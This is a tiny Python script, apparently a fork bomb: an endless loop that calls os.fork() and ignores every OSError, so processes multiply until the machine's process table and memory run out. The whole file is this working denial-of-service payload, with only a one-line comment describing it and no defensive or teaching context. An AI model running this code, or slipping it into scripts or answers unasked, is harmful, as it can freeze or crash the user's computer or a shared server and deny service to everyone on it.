# Processes that start processes, for ever, past every exception.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
